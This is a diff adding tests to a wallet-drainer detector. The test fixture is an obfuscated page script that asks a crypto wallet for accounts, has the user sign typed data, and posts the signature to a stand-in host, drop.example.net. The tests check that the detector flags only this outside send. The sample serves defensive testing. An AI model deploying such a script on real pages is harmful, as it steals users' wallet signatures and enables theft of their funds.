@@ -154,3 +154,25 @@ describe('the words of a wallet', () => {
     expect(at('<h1>Keep your recovery phrase safe</h1><p>Never type it anywhere.</p>')).toEqual([])
   })
 })
+
+describe('a wallet that is asked when a button is pressed [T9]', () => {
+  const press = (method: string, to: string) =>
+    `<title>Orders</title><button>Go</button><script>document.querySelector('button').onclick=async()=>{
+      const p=window['ether'+'eum'];const [me]=await p.request({method:'eth_'+'requestAccounts'});
+      const s=await p.request({method:${JSON.stringify(method)}.split('-').join(''),params:[me,'{}']});
+      fetch('${to}',{method:'POST',body:JSON.stringify({me,s})})}</script>`
+  const drained = (body: string) => rulesInViews(walletCheck, body, { url: 'https://mint.example/' })
+
+  test('is emptied where what it signs is sent elsewhere', () => {
+    expect(drained(press('eth_-signTyped-Data_v4', 'https://drop.example.net/'))).toEqual([
+      'content.wallet_drainer',
+    ])
+  })
+
+  test.each([
+    ['where it is sent to the site itself', press('eth_-signTyped-Data_v4', '/orders')],
+    ['where a message is signed to log in', press('personal_-sign', 'https://login.example.net/')],
+  ])('is not emptied %s', (_, body) => {
+    expect(drained(body)).toEqual([])
+  })
+})
